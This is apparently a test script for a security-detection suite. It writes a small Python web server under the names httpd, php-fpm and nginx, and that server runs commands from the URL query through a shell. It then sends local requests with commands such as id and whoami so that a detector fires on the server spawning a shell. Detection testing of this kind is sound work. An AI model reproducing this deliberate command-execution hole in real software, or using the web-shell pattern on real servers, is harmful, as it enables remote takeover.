#!/bin/bash
# desc: a web shell: web servers (httpd, php-fpm, nginx) run the commands an HTTP request carries through a shell, directly, or via an interpreter
# mitre: T1505.003, T1190, T1059
# expect: server_process_spawned_shell
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

# A tiny web application with a command-execution hole, run under the
# names of real servers (a server's process name is its program's name).
cat >app.py <<'PY'
import http.server, os, subprocess, sys, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        mode, cmd = q.get("mode", ["shell"])[0], q.get("cmd", ["id"])[0]
        if mode == "shell":
            out = subprocess.run(cmd, shell=True, capture_output=True).stdout
        elif mode == "direct":
            out = subprocess.run(cmd.split(), capture_output=True).stdout
        else:
            out = subprocess.run(["python3", "-c", cmd], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H)
s.handle_request()
PY
serve() { # name, then the query
	local port
	port=$(free_port)
	ln -sf /usr/bin/python3 "./$1"
	"./$1" app.py "$port" &
	wait_listen 127.0.0.1 "$port"
	curl -fsS "http://127.0.0.1:$port/?$2" >/dev/null
	wait
}
serve httpd 'mode=shell&cmd=id;uname+-a'
serve php-fpm 'mode=direct&cmd=whoami'
serve nginx 'mode=python&cmd=import+os;print(os.getuid())'
